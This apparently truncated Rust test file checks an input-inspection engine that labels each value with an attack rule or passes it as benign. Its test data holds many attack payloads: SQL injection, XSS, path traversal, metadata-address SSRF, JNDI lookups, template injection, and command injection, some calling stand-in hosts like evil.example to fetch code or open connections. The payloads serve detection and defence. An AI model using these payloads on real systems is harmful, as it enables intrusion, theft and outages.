//! The engine as a whole: values, and the rule that each is refused by.

use super::*;

fn found(engine: &Engine, text: &str, kind: Kind) -> Option<&'static str> {
    let all = Category::ALL.iter().fold(Categories::NONE, |set, (_, c)| set.with(*c));
    let mut rule = None;
    engine.judge(text.as_bytes(), kind, all, &mut Account::default(), &mut |finding| {
        rule.get_or_insert(finding.rule);
        true
    });
    rule
}

#[track_caller]
fn check(text: &str, kind: Kind, expected: Option<&str>) {
    assert_eq!(found(&Engine::new(), text, kind), expected, "{text}");
}

/// All at once, and every difference told.
#[track_caller]
fn check_all<'t>(cases: impl IntoIterator<Item = (&'t str, Kind, Option<&'t str>)>) {
    let engine = Engine::new();
    let differences: Vec<String> = cases
        .into_iter()
        .map(|(text, kind, expected)| (text, kind, expected, found(&engine, text, kind)))
        .filter(|(.., expected, found)| expected != found)
        .map(|(text, kind, expected, found)| format!("{kind:?} {text:?}: {found:?}, not {expected:?}"))
        .collect();
    assert!(differences.is_empty(), "{}", differences.join("\n"));
}

#[test]
fn what_acts_whoever_reads_it_is_not_bought_off_by_prose() {
    let prose = "We have seen this on our side too, and it is the one that you were told of. ".repeat(3);
    for (attack, rule) in [
        ("x' or 1=1 -- ", "sql.boolean"),
        ("```\n<img src=x onerror=alert(1)>\n```", "script.proof"),
        ("`../../../etc/passwd`", "path.traversal"),
        ("`http://169.254.169.254/latest/`", "request_forgery.metadata"),
    ] {
        check(&format!("{prose}\n{attack}\n{prose}"), Kind::Json, Some(rule));
    }
    check(
        &format!("{prose} `'a' or 'b'`, or /etc/passwd. {prose}"),
        Kind::Json,
        None,
    );
}

#[test]
fn what_a_review_found_to_pass_is_found() {
    let blanks = " ".repeat(130);
    let padded = [
        format!("'-'{blanks}"),
        format!("{blanks}'-'"),
        format!("'-'{}", "a".repeat(200)),
    ];
    for text in padded.iter().map(String::as_str).chain([
        "tommyy'-'",
        "y'-'M",
        "ss'-'m",
        "yyyy'*'MM",
        "kayy'-'",
        "HH'-'",
        "x HH'-'",
        "MM'-'x",
    ]) {
        check(text, Kind::Parameter, Some("sql.expression"));
    }
    check_all([
        ("yyyy'-'MM'-'dd'T'HH':'mm", Kind::Parameter, None),
        (";rm index.php", Kind::Parameter, Some("command.chained")),
        (";ls *", Kind::Parameter, Some("command.chained")),
        (";nc evil.example 80|x", Kind::Parameter, Some("command.chained")),
        (";rm index.php |x", Kind::Parameter, Some("command.chained")),
        ("; MV Agusta", Kind::Parameter, None),
        ("; rm = room", Kind::Parameter, None),
        ("| rm it | removes | ", Kind::Parameter, None),
        ("; PS I love you", Kind::Parameter, None),
        (";sftp -oProxyCommand=id x", Kind::Parameter, Some("command.chained")),
        ("x$(hostid).evil.example", Kind::Parameter, Some("command.chained")),
        ("{{ config['SECRET_KEY'] }}", Kind::Json, Some("template.expression")),
        ("{{settings}}", Kind::Json, None),
        ("os.getenv('API_KEY') returns None", Kind::Parameter, None),
        ("x'.getenv('API_KEY').'", Kind::Parameter, Some("command.php")),
        ("{{ 7 / 0 }}", Kind::Parameter, Some("template.expression")),
        ("{{(7/0)}}", Kind::Parameter, Some("template.expression")),
    ]);
}

#[test]
fn commands_are_found_behind_any_number_of_separators() {
    let many = "a;".repeat(100);
    check(&format!("{many}cat notes"), Kind::Parameter, Some("command.chained"));
    check(&"\n\n\n\n;".repeat(4096), Kind::Parameter, None);
    for (text, rule) in [
        ("time ifconfig", "command.chained"),
        ("go `sleep 5`", "command.chained"),
        ("f(){ f|f& };f", "command.function"),
        ("pi``ng 1.1.1.1", "command.obscured"),
        // Far into the value, so that a position within the span is none within the value.
        (
            "some words in front, and more of them so that it is far; pi$(x)ng 1.1.1.1",
            "command.chained",
        ),
    ] {
        check(text, Kind::Parameter, Some(rule));
    }
    for text in [
        "time sort",
        "use `cat` here",
        "the `id` of it",
        "function f() { return a | b }",
    ] {
        check(text, Kind::Json, None);
    }
}

#[test]
fn a_name_may_be_what_a_text_is_about() {
    for text in [
        "powershell for beginners",
        "ansible and terraform",
        "chef-owned restaurant",
        "touch (screen) of a phone",
    ] {
        check(text, Kind::Parameter, None);
    }
    check("{\"ip\":\"127.0.0.1\"}", Kind::Json, None);
    for (text, rule) in [
        ("powershell", "command.shell"),
        ("powershell -enc aQBlAHgA", "command.shell"),
        ("x; powershell for fun", "command.shell"),
        ("ansible-playbook site.yml", "command.shell"),
        ("touch ('/tmp/x')", "command.php"),
    ] {
        check(text, Kind::Parameter, Some(rule));
    }
}

/// Each was refused in data that nobody had read: words that hold a literal, signs that are ordinary where they stand.
#[test]
fn what_people_and_programs_write_is_no_attack() {
    let texts = [
        "(Details : {LOINC code '8480-6' = 'Systolic blood pressure', given as 'Systolic blood pressure'})",
        "wasm compatible label:\"vrl: playground\" is:open",
        "MJK - Select List 1",
        "(select option 2)",
        "(select size 42)",
        "or (select row 5)",
        "https://.../avatar/x.jpg",
        "a;host",
        "process.memory.size",
        "process.thread.name",
        "BAD | CONF | HP | HV | DIR | PUB",
        "A|versao|Id|pk_nItem|",
        "https://dev.mysql.com/doc/refman/8.4/en/server-status-variables.html",
        "${#list}",
        "<!DOCTYPE nvidia_smi_log SYSTEM \"nvsmi_device_v12.dtd\">",
        "| ip address | name |",
        "; PS I love you",
        "John\nE-Mail: a@b.example",
        "fix\n\nChange-Id: I7d1e3a",
        "Room\nX-large: yes",
        "Note\nSet-up: done",
        "Hi\nAccess-point: ok",
        "foo\nContent-warning: none",
        "const total = this.price && this.quantity;",
        "if (user && this.ready) { go() }",
        "return this.a || this.b",
        "v-if=\"open && this.items\"",
        "value => value && this.validate(value)",
        "the default is name || this.name",
        "user|logname",
        "md5sum;sha1sum",
        "{{12/25/2024}}",
        "{$comment: \"x\"}",
        "lambda/InvokeFunction",
        "how to enable global general_log",
        "//div[@class='x'] | //span",
        "sep='-'",
        "verbs: ['*']",
        "['*']",
        "str.split('-')",
        "Unexpected token '-'",
        "Click '+' to add",
        "yyyy'-'MM'-'dd",
        "type Status = 'open' | 'closed'",
        "!(status=closed)",
        "foo();return true}",
        "service:jmx:rmi:///jndi/rmi://host.example:9010/jmxrmi",
        "java.net.UnknownHostException: java.net.InetAddress.getAllByName",
        "o.springframework.context.support.PostProcessorRegistrationDelegate",
        "{\"$comment\": \"x\"}",
        "our banking-app is down since Monday, please help",
        "/packages/marketing-apps",
        "I'd like to order 2 pcs.",
        "Hello,\nI'd like to return my order.",
        "the vxworks port",
        "a better printing experience in the console.",
        "java.io.IOException: broken pipe",
        "org.springframework.boot:spring-boot",
        "{%22uk%22:0}",
        "price {%c3%a9}",
        "Water or Milk (1.5%)",
        "Terms and Conditions (PDF)",
        "read() and write()",
        "Val-d'Or Airport",
        "I used \"or\" instead of replacing all",
        "Use 'and' instead of 'or'",
        "\"(EC)DHE\" -> \"asymmetric key exchange\"",
        "Fixed user/{user_id}/teams return schema (#272)",
        "Add AUTOSCALE_FAILED alert (#1022)",
        "create table for initial registry",
        "update profile set avatar",
        "Müllerová Blažková v.o.s.",
        "JavaScript: the good parts",
        "30x30 | Top",
        "fragment F on T {\n  id\n  ...G\n}",
        "/css/dist/bg/icons.data.svg.css?fgv39",
        "data:application/pdf;base64,JVBERi0xLjQK",
        "data:audio/mpeg;base64,SUQzBAAAAAAA",
        "test-list_all_users_returns_ok",
        "169.254.13.37",
        "---\ntitle: \"Tom's day\"\n---",
        "---\npaths:\n  - \"packages/**/*\"\n---\n",
        "price is ${5} + ${6}",
        "use {{count}} + {{total}}",
        "show an alert, confirm it (alert, warning)",
        "--- /dev/null\n+++ b/six\n@@ -0,0 +1 @@\n+x\n",
        "| id | name |\n|----|------|\n| npm | zod |",
        "={{ $('Set fields').item.json }}",
        "--listen=[$(IP)]:9100",
        "a == \"b\" || c == 10",
        "first > 3 || second > 10",
        "d.a !== 'PR' && d.a !== 'VI'",
        "^1.0.3 || ^2.0.0",
        "When clicking \"Execute Workflow\"",
        "click \"Select a model\" now",
        "``touch``",
        "create table query",
        "formula(\"query1\").last(\"30m\") > 1000",
        "'R: '+format(x)",
        "'%env(resolve:X)%'",
        "whoami.md",
        "https://a.example/v$version/checksums.txt",
        "/a/tool_v$version_x64.zip",
        "x.substr(2, 5)",
        "Quote (Thai)",
        "Headers#concat(...targets)",
        "`Str::ltrim()`",
        "![](a.png)",
        "[PHP](https://php.example)",
        "JavaScript: Added foo (#1234)",
        "com.alibaba.android.rimet",
        "#session",
        "python >=2.7,<2.8.0a0",
        "trigger: function trigger() {",
        "Astro.glob()",
    ];
    let kinds = [Kind::Parameter, Kind::Json, Kind::Cookie];
    check_all(texts.into_iter().flat_map(|text| kinds.map(|kind| (text, kind, None))));
    check_all([
        ("XMLHttpRequest", Kind::Header, None),
        ("Touch (Android 4.2.2;de_DE;gzip)", Kind::Agent, None),
        ("touch (x;gzip)", Kind::Agent, Some("command.chained")),
        ("App ( ) { x; };id", Kind::Agent, Some("command.chained")),
        ("App (x\";id;\"", Kind::Agent, Some("command.chained")),
        ("App (x)&ping 10.0.0.1", Kind::Agent, Some("command.chained")),
        ("App;id", Kind::Agent, Some("command.chained")),
        ("App () { x; };id", Kind::Agent, Some("command.chained")),
        ("App (x $(id))", Kind::Agent, Some("command.shell")),
        ("\" or 1=1 or \"\"=\"", Kind::Agent, Some("sql.boolean")),
        ("https://a.example/press-fitting-applications", Kind::Referer, None),
        (
            "Mozilla/5.0 (compatible; TopicCrawler; info@adkernel.com)",
            Kind::Agent,
            None,
        ),
        ("/repos/o/r/contents/.github/workflows/ci.yml", Kind::Path, None),
        ("/.a/1.86.2/css/global.css", Kind::Path, None),
        ("`<script>` in an SVG", Kind::Json, None),
        ("/etc/ssl/certs", Kind::Json, None),
        ("/var/lib/mysql", Kind::Json, None),
        ("/en-us/windows/win32/api", Kind::Path, None),
        ("/docs/java.lang.String", Kind::Path, None),
        ("/docs/process.env", Kind::Path, None),
        ("data:text/plain;base64,aGVsbG8=", Kind::Json, None),
        ("<!DOCTYPE html><p>Hello</p>", Kind::Json, None),
        ("/usr/local/bin/node", Kind::Json, None),
        ("/usr/bin/env", Kind::Json, Some("command.shell")),
        (
            "/home/jenkins/.jenkins/secrets/master.key",
            Kind::Json,
            Some("path.file"),
        ),
        ("call_user_func_array", Kind::Json, None),
        ("{{settings}}", Kind::Json, None),
        ("os.getenv('API_KEY') returns None", Kind::Parameter, None),
        ("x'.getenv('API_KEY').'", Kind::Parameter, Some("command.php")),
        ("0};while(1){}", Kind::Json, Some("nosql.script")),
        ("/dev/null", Kind::Json, None),
        ("<object>", Kind::Json, None),
        ("/home/travis/.rvm/gems/x.rb", Kind::Json, None),
        (
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            Kind::Json,
            None,
        ),
        ("<![CDATA[gh_1]]>", Kind::Json, None),
    ]);
}

/// What is told apart from the above by a little.
#[test]
fn what_looks_alike_and_acts_is_found() {
    let texts = [
        ("<div ng-app>{{x}}</div>", "template.expression"),
        ("{% include x %}", "template.expression"),
        ("{%print(1)%}", "template.expression"),
        ("<%eval request(1)%>", "template.expression"),
        ("i'd'", "command.obscured"),
        ("console.log.constructor('x')()", "expression.node"),
        ("process.mainModule.require('x')", "expression.node"),
        ("a]]><img src=x>", "script.object"),
        ("/bin/ca? /etc/passwd", "path.file"),
        ("/usr/s?in/ls", "command.glob"),
        ("foo|id", "command.chained"),
        ("x '=' y", "sql.comparison"),
        ("       x'-'y", "sql.expression"),
        ("'-'#", "sql.expression"),
        ("é'-'", "sql.expression"),
        ("x'-'y'-'z", "sql.expression"),
        ("1 or (select sql_no_cache 1)", "sql.boolean"),
        ("x' is:x or role='admin", "sql.comparison"),
        ("mycode '-'=' '", "sql.comparison"),
        ("'.getenv('DB_PASSWORD').'", "command.php"),
        ("1/*aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa*/;return true}", "nosql.script"),
        ("0};while(1){}", "expression.node"),
        ("|(mail=x)", "nosql.filter"),
        ("FO|XX|DIR", "command.chained"),
        ("java.net.InetAddress.getByName(\"evil.example\")", "expression.class"),
        ("service:jmx:rmi:///jndi/corbaname::evil", "expression.jndi"),
        ("'-''-- 2", "sql.comment"),
        ("exp(~(select*from(select user())a))", "sql.subquery"),
        ("(select top 1 password from users)", "sql.subquery"),
        ("(select distinct 1)", "sql.subquery"),
        ("(select SQL_NO_CACHE 1)", "sql.subquery"),
        ("(select high_priority 1)", "sql.subquery"),
        ("(select _binary 0x31)", "sql.subquery"),
        ("(select \u{a0}top 1)", "sql.subquery"),
        ("(select x-1)", "sql.subquery"),
        ("(select x like 1)", "sql.subquery"),
        ("(select x 5,1)", "sql.subquery"),
        ("1 or (select unique 1)", "sql.boolean"),
        ("set global general_log_file='/x'", "sql.stacked"),
        ("O:4:\"Evil\":1:{s:1:\"a\";s:2:\"id\";}", "expression.serialised"),
        ("IT)(title=SysAdmin", "nosql.filter"),
        ("))(cn=", "nosql.filter"),
        ("']|//*['", "nosql.xpath"),
        ("{{7/0}}", "template.expression"),
        ("{{ config }}", "template.settings"),
        ("${#request}", "expression.el"),
        ("${#strings.toString(1)}", "expression.el"),
        ("index/\\think\\app/invokefunction", "command.php"),
        ("phpinfo", "command.php"),
        (";rm q23 #", "command.chained"),
        (";lastlogin -u admin", "command.chained"),
        ("|id", "command.chained"),
        ("a|id|x", "command.chained"),
        ("/usr/bin/id", "command.shell"),
        ("/home/x/.ssh/id", "path.hidden"),
        ("process.mainModule.constructor._load", "expression.node"),
        ("<!DOCTYPE x SYSTEM \"http://a.example/x.dtd\">", "xml.entity"),
        ("test\nInjected-Header:value", "header.split"),
        ("\r\nX-A: b c", "header.split"),
        ("' && this.x.match(/.*/)", "nosql.script"),
        ("1 || this.x", "nosql.script"),
        ("lang=en\r\nReply-To: a@b.example", "header.split"),
        ("en\nAlt-Svc: h2=evil.example:443", "header.split"),
        ("en\r\nWWW-Authenticate: Basic realm=x", "header.split"),
        ("'+'x", "sql.expression"),
        ("http' or 1.e(1)='1", "sql.fragment"),
        ("0 like 'a'|'b'", "sql.boolean"),
        ("<a'>(1)or 1=1#", "sql.boolean"),
        (
            "The order came late on Monday, and the lamp was broken' and (select password 'a' from users limit 1) like 'a%' -- ",
            "sql.boolean",
        ),
        ("a-b;apt-get", "command.chained"),
        ("\"x\"|\"y\"|shutdown.exe", "command.chained"),
        ("& reg;", "command.chained"),
        ("http://good\0.localhost/", "request_forgery.loopback"),
        ("http://localhost\0.example/", "request_forgery.loopback"),
        ("T(java.net.InetAddress)", "expression.class"),
        ("', $comment:'x", "nosql.operator"),
        ("a;return true}", "nosql.script"),
        ("!(uid=x)", "nosql.filter"),
        ("javascript:void(0);alert(1)", "script.call"),
        ("<img src=\"javascript:void(0)\"onerror=alert(1)>", "script.proof"),
        ("localStorage.getItem('x')", "script.object"),
        ("class.module.classLoader.resources", "expression.class"),
        ("..././..././etc/x", "path.traversal"),
        ("/....../config", "path.traversal"),
        ("cat<<<$x", "command.shell"),
        ("cat <<< \"x\"", "command.shell"),
        ("s=location.hash;eval(s)", "script.call"),
        ("self.fetch('//x')", "script.call"),
        ("aa|reboot|bb", "command.chained"),
        ("process.domain.constructor", "expression.node"),
        ("x '<' aa", "sql.comparison"),
        ("javascript:void(0)>x()", "script.url"),
        ("$f(#\n'id')", "command.php_call"),
        ("1/$f('id')", "command.php_call"),
        ("system (#\n'id')", "command.php"),
        ("{{% if x %}}{{7*7}}", "template.expression"),
        ("/.git/config", "path.hidden"),
        ("<style>@import 'x'</style>", "script.object"),
        ("<meta http-equiv=refresh content=0>", "script.element"),
        ("<meta charset=utf-7><b>x</b>", "script.element"),
        ("<!--[if IE]><b>x</b><![endif]-->", "script.comment"),
        ("function(x){return 1}", "expression.node"),
        ("; c'a't notes", "command.obscured"),
        ("com.opensymphony.xwork2", "expression.class"),
        ("console.table(x)", "expression.node"),
        ("t(java.lang.Runtime)", "expression.class"),
        ("a and sleep (5)", "sql.function"),
        ("' where 5242=5242 or 3806=7423--", "sql.boolean"),
        ("1') as zari where 6847=6847", "sql.boolean"),
        ("-7903 where 6699=6699", "sql.boolean"),
        (" or true", "sql.boolean"),
        ("like '%'", "sql.fragment"),
        ("\" or \"\"^\"", "sql.boolean"),
        ("' or' 1", "sql.boolean"),
        ("d' or d='d", "sql.boolean"),
        ("x'union select name,2 from users", "sql.union"),
        ("x'or`id`", "sql.boolean"),
        ("x \"or\" 1", "sql.boolean"),
        ("x 'rlike' of|0", "sql.comparison"),
        ("a 'regexp'", "sql.comparison"),
        ("create table x as select 1", "sql.stacked"),
        ("update users set admin=1", "sql.stacked"),
        ("javascript: x=1", "script.url"),
        ("x | Cat -n notes", "command.chained"),
        ("/bin/c?t /etc/passw?", "command.glob"),
        ("new XMLHttpRequest", "script.object"),
        ("<!DOCTYPE x SYSTEM \"http://a.example/x.dtd\">", "xml.entity"),
        ("<!DOCTYPE html SYSTEM \"http://a.example/x.dtd\">", "xml.entity"),
        ("<!DOCTYPE html [<!ELEMENT a ANY>]>", "xml.entity"),
        (
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://a.example/x.dtd\">",
            "xml.entity",
        ),
        ("<![CDATA[<]]>b<![CDATA[>]]>", "xml.entity"),
        ("data:text/html;base64,PHNjcmlwdD4=", "request_forgery.scheme"),
        ("data:text/plain;base64,PD9waHA=", "request_forgery.data"),
        ("data:application/xhtml+xml;base64,PHg+", "script.url"),
        ("all_users", "sql.catalogue"),
        ("from information_schema.tables", "sql.catalogue"),
        ("from information_schema\u{a0}.tables", "sql.catalogue"),
        ("x: select name from users where id=1 or 1=1", "sql.select"),
        ("x 'in' (1,2)", "sql.comparison"),
        ("x 'like' %", "sql.comparison"),
        ("x 'rlike' .", "sql.comparison"),
        ("a'|'", "sql.boolean"),
        ("'or'", "sql.boolean"),
        ("( ( SELECT 'a' ) OR 'b' )", "sql.subquery"),
        ("(select count(*) from generate_series(1,5000000))", "sql.subquery"),
        ("1,(case when 3959=1748 then 1 else null end)", "sql.boolean"),
        ("iif(3637=8154,1,1/0)", "sql.boolean"),
        ("${56+48}", "template.expression"),
        ("{{33 + 23}}", "template.expression"),
        ("%{128*128}", "template.expression"),
        ("{{7*'7'}}", "template.expression"),
        ("{{groovy}}println(1){{/groovy}}", "template.expression"),
        ("${j${k8s:k5:-nd}i:ldap://x}", "expression.jndi"),
        ("/x\r\nset-cookie: a=b", "header.split"),
        ("/x\u{560a}\u{560d}set-cookie:a=b", "header.split"),
        ("a`ping c9.example`", "command.chained"),
        ("'\nid\n'", "command.chained"),
        ("1;return true", "nosql.script"),
        ("alert.call(null,1)", "script.call"),
        ("[1].find(alert)", "script.call"),
        ("url=dict://127.0.0.1:6379/save", "request_forgery.loopback"),
        ("<xop:include href=\"file:///etc/issue\"/>", "xml.entity"),
        ("x | id", "command.chained"),
        ("x | Type c:\\x", "command.shell"),
        ("Foo | Sort /etc/x", "command.chained"),
        ("x `id` `whoami`", "command.shell"),
        ("- `whoami`", "command.shell"),
        ("f(){ f|f& };f", "command.function"),
        ("exec('id')", "command.php"),
        ("a.system('id')", "command.php"),
        ("PowerShell -enc AAAA", "command.shell"),
        ("x](../../etc/passwd", "path.traversal"),
        ("/root/.ssh/known_hosts", "path.file"),
        ("web.config", "path.file"),
        (" web.config", "path.file"),
        ("ipConfig /all", "command.shell"),
        ("x & systemInfo", "command.shell"),
        ("nc -lvp 4444", "command.shell"),
        ("url(file:///etc/passwd", "path.wrapper"),
        ("gopher://2130706433:6379/_x", "request_forgery.scheme"),
        ("rtmp://017700000001", "request_forgery.loopback"),
        ("Delete from users where 1=1", "sql.stacked"),
        ("> /dev/null", "command.shell"),
        ("http://169.254.13.37/", "request_forgery.metadata"),
        ("&{x('y')}", "script.object"),
        ("| id |\r\n|---|", "command.chained"),
        ("| id |\nx", "command.chained"),
        ("x | id |\n|---|", "command.chained"),
        ("|a|\n|$(id)|", "command.shell"),
        ("$('cat' /etc/passwd)", "path.file"),
        ("() { _; } >_[$($())] { id; }", "command.shell"),
        ("\r\nX-Accel-Redirect: //internal/x", "header.split"),
        ("[\"sh\",\"-c\",\" whoami\"]", "command.shell"),
        ("{\"cmd\":\" powershell -nop\"}", "command.shell"),
        ("x\niex (iwr('https://a.example/x'))", "command.chained"),
        ("x\ncurl 0x7f.0.0.1", "command.chained"),
        ("<%if%,a},;@x=File.read(__FILE__);end%>", "template.expression"),
        ("jobs(*,*))", "nosql.filter"),
        ("x' & 'y", "sql.boolean"),
        // Zero to MySQL, and any name is equal to that.
        ("foo '&' bar", "sql.boolean"),
        ("foo '|' bar", "sql.boolean"),
        ("1 '|' 1", "sql.boolean"),
        ("'-'", "sql.expression"),
        ("1234','role':'admin", "nosql.member"),
        ("x;return true;}//", "nosql.script"),
        ("http://good.example\\@127.0.0.1/", "request_forgery.authority"),
        ("service:jmx:rmi:///jndi/ldap://a.example/o=x", "expression.jndi"),
        ("java.net.Inet4Address", "expression.class"),
        ("127.0.0.1:3306/x?autoDeserialize=true", "expression.serialised"),
        ("content-type;host;id", "command.chained"),
        ("content-type;host -a x", "command.chained"),
        ("'a' | 'reboot'", "command.chained"),
        ("x' | '1", "sql.boolean"),
        ("x' | 'y' or 1=1 -- ", "sql.boolean"),
        ("x'+'y", "sql.expression"),
        ("x '*' y", "sql.expression"),
        ("x'+0+'y", "sql.expression"),
        ("x'^'y", "sql.expression"),
        ("x' << 'y", "sql.expression"),
        ("northwind..orders", "sql.catalogue"),
        ("{%set x='%,'%}", "template.expression"),
        ("{%if 1%}", "template.expression"),
        ("x;powershell -v 7", "command.shell"),
        ("' or 'x'; powershell -enc a", "command.shell"),
        ("x\naria2c https://a.example/x", "command.chained"),
        ("x;/cc https://a.example/", "command.chained"),
        ("x;ping 127.0.0.1", "command.chained"),
        ("copy t from '/tmp/x'", "sql.stacked"),
        ("copy t from program 'id'", "sql.stacked"),
        ("system(1)", "command.php"),
        ("new java.util.List(", "expression.class"),
        ("/x/.DS_Store", "path.file"),
        ("/WEB-INF/web.xml", "path.file"),
        ("<x onerror=y()>", "script.handler"),
        ("${jnd${upper:i}:ldap://x.example}", "expression.jndi"),
        (
            "Some text, long enough for prose, and in it java.lang.Runtime.getRuntime().exec of what was given.",
            "expression.class",
        ),
        ("${request.getAttribute(\"c\")}", "expression.object"),
        ("\"calc.exe\".execute()", "expression.object"),
        ("#{session.getAttribute(\"rtc\")}", "expression.object"),
        (
            "\"/><xsl:value-of select=\"system-property('xsl:vendor')\"/><!--",
            "xml.entity",
        ),
        ("/google.com//..\r\nheader:header", "header.split"),
        ("https://a.example\r\nX-Test:1", "header.split"),
        ("\r\nLink: //evil.example", "header.split"),
        ("{{ config.items() }}", "template.expression"),
        ("$(ID -a)", "command.shell"),
        ("x``id``", "command.chained"),
        ("x ``y`` `a``id`", "command.chained"),
        ("`` `a``id`", "command.chained"),
        ("x='a'+foo() or 1=1", "sql.boolean"),
        ("var=`cut x``dig y`", "command.chained"),
        ("x='a' or 1=1", "sql.boolean"),
        ("x='a' or id=id", "sql.boolean"),
        ("x=\"a\" or c == \"b\" or 1=1", "sql.boolean"),
        ("1 or id>0", "sql.boolean"),
        ("a='1' not regexp '2'", "sql.comparison"),
        ("'+sleep(5)+'", "sql.function"),
        ("' execute master", "sql.stacked"),
        ("1#substr(x,1)", "sql.function"),
        ("from v$version--", "sql.catalogue"),
        ("/**/v$version", "sql.catalogue"),
        ("floor(rand(0)*2)", "sql.function"),
        ("(![]+[])", "script.object"),
        ("[php]x[/php]", "command.php_tag"),
        ("javascript: Foo in x()", "script.url"),
        ("`<script>``;x()//</script>`", "script.element"),
        ("com.alibaba.fastjson.JSONObject", "expression.class"),
        ("#session['x']", "expression.class"),
        ("\r\nheader:header", "header.split"),
        ("\nRemote-Addr: a.example", "header.split"),
        ("\u{560a}\u{560d}Header-Test:x", "header.split"),
        ("'; attach database '/tmp/x' as x--", "sql.stacked"),
        ("'; grant all privileges on database x to public--", "sql.stacked"),
        ("/etc/ssl/certs", "path.file"),
    ];
    let commented = format!("1/sleep/*{}*/(5)", "x".repeat(400));
    check(&commented, Kind::Parameter, Some("sql.function"));
    check_all(texts.map(|(text, rule)| (text, Kind::Parameter, Some(rule))));
    check_all(["/.git/config", "/a/.env", "/.anything"].map(|path| (path, Kind::Path, Some("path.hidden"))));
}

/// Texts that a search found to cost most, each by what bounds it.
#[test]
fn what_costs_too_much_is_left_unfinished_and_names_of_many_parts_are_read_in_part() {
    let engine = Engine::new();
    let every = Category::ALL.iter().fold(Categories::NONE, |set, (_, c)| set.with(*c));
    let judge = |text: &str| {
        engine.judge(
            text.as_bytes(),
            Kind::Parameter,
            every,
            &mut Account::default(),
            &mut |_| false,
        )
    };
    // In one layer none costs so much, in four each does.
    for unit in ["exec ( ", "`=`w:=b=&/", "|Type (\n"] {
        let text = unit.repeat((16 << 10) / unit.len());
        assert_eq!(judge(&text), Some(text.len() as u64), "{unit}");
        assert_eq!(judge(&format!("%25252e{text}")), None, "{unit}");
    }
    // Encodings alone are no reason, nor is a short value.
    let text = format!(
        "%25252e{}",
        "The order came late on Monday, and the second (a lamp) was broken. ".repeat(250)
    );
    assert!(judge(&text).is_some());
    assert!(judge("%25252e{{a{{a{{a{{a<<<<<onerror=").is_some());
    // Nor do many short ones buy what one long one doesn't.
    let mut account = Account::default();
    let mut judge = |text: &str| engine.judge(text.as_bytes(), Kind::Json, every, &mut account, &mut |_| false);
    let dear = "%25252e".to_owned() + &"'<onsele\t =0".repeat(10);
    let towns = [
        "Fort Lee",
        "Forest’s Edge",
        "If",
        "Paris",
        "Santiago de Compostela",
        "São Paulo",
    ];
    assert!(towns.iter().cycle().take(10_000).all(|town| judge(town).is_some()));
    assert!((0..10_000).any(|_| judge(&dear).is_none()));
    // What is read behind a quote ends with so many tokens, whatever joins them.
    let value = format!("x'{}or 1=1", "a.".repeat(4000));
    check(&value, Kind::Parameter, None);
    check("x' or a.b.c=1", Kind::Parameter, Some("sql.boolean"));
}

/// Line ends alone make no document of a value, and what stands in front of lines that say nothing, or behind them, is judged.
#[test]
fn line_ends_buy_nothing() {
    let lines = "a line that says nothing at all\n".repeat(8);
    let blank = "\n".repeat(200);
    let attack = "1 union select 1,2 from users";
    let json = |text: String| check(&text, Kind::Json, Some("sql.union"));
    json(format!("{attack}{blank}"));
    json(format!("{blank}{attack}{blank}"));
    for text in [
        format!("{attack}{blank}"),
        format!("{attack}\n{lines}"),
        format!("{lines}{attack}"),
        format!("{lines}{attack}\n\n"),
    ] {
        check(&text, Kind::Parameter, Some("sql.union"));
    }
    let gopher = format!("gopher://127.0.0.1:6379/_*1\r\n$8\r\nflushall\r\n{lines}");
    check(&gopher, Kind::Parameter, Some("request_forgery.scheme"));
    // What acts by itself, documents have.
    for line in [
        "http://localhost:3000/",
        "import java.util.List;",
        "#!/bin/bash",
        "SELECT u.name, o.total",
        "Error: ENOENT: no such file or directory, open '/etc/hosts'",
        "| ip address | Name |",
        "module.exports = {",
    ] {
        check(&format!("{line}\n{lines}"), Kind::Parameter, None);
        check(&format!("{lines}{line}"), Kind::Parameter, None);
    }
    check(&lines, Kind::Parameter, None);
}

/// Signs in a password are random; what is spelt out in it is not.
#[test]
fn a_password_is_judged_by_more_than_its_signs() {
    let random = [
        "e$LTbfGW(B0LP7",
        "X0$8&3r/Nc&D",
        ";WkY/?S=RlQi",
        "8IC%{%@-VD:",
        "'?tmM1l74>K&",
        "a``b$_c*)(",
    ];
    check_all(random.map(|text| (text, Kind::Secret, None)));
    let attacks = [
        ("'or'1'='1", "sql.boolean"),
        ("'/**/union/**/select/**/1", "sql.union"),
        ("$(wget)", "command.chained"),
        ("${jndi:ldap://x}", "expression.jndi"),
        ("{\"$ne\":1}", "nosql.operator"),
        ("<script>x()</script>", "script.element"),
    ];
    check_all(attacks.map(|(text, rule)| (text, Kind::Secret, Some(rule))));
}

/// Told from paths and patterns of a value's own by reading it: whoever looks a user up puts names, passwords and fields of
/// the head into a path.
#[test]
fn a_path_is_left_by_a_bracket_that_the_value_did_not_open() {
    let kinds = [
        Kind::Parameter,
        Kind::Json,
        Kind::Cookie,
        Kind::Name,
        Kind::Secret,
        Kind::Header,
        Kind::Agent,
        Kind::Referer,
        Kind::Path,
        Kind::Text,
    ];
    let attacks = [
        "']|//*['",
        "x']|//*['1",
        "x\"]|//*[\"1",
        "1]|//*[1",
        "1]|//*['1",
        "true()]|//*[1",
        "0 or true()]|//*[1",
        "x' and 1]|//pw['1",
        "x'=1]|//*['",
        "' or 1]|//*['",
        "x' ]|//*['1",
        "admin' ] | //user/*['",
        "x'))]|//*[(('1",
        ".']|//*['1",
        "/']|//*['1",
        "./x']|//pw['1",
        "/?lookup=%27%5D%7C%2F%2F%2A%5B%27",
        "x']|/*['1",
        "x']|\n//*['1",
        "x']|\t (//*)['1",
        "x'][1<2]|//*['1",
        "x']/..|//*['1",
        "x' or .]|//*['1",
        "x' or a[1]]|//*['1",
        // What the value quotes opens nothing.
        "[']|//*['1",
        "[x'='x']|//*['1]",
        "\"[',\"']\"]|//*['1",
    ];
    let own = [
        "//div[@class='x'] | //span",
        "a[@id='1'] | //b",
        "/a[1]|//b",
        "//a[contains(text(), \"it's\")] | //b",
        "./x[y]|/*",
        "don't use a['b'] | // that",
        "type A = B[] | // one\n  C",
        "x['a']|/* b */",
        "] a, b | // c",
    ];
    let in_all = |text, rule| kinds.map(|kind| (text, kind, rule));
    check_all(attacks.into_iter().flat_map(|text| in_all(text, Some("nosql.xpath"))));
    check_all(own.into_iter().flat_map(|text| in_all(text, None)));
}

#[test]
fn what_a_tag_loads_is_known_wherever_it_ends_and_whatever_tag_was_read_before() {
    for text in [
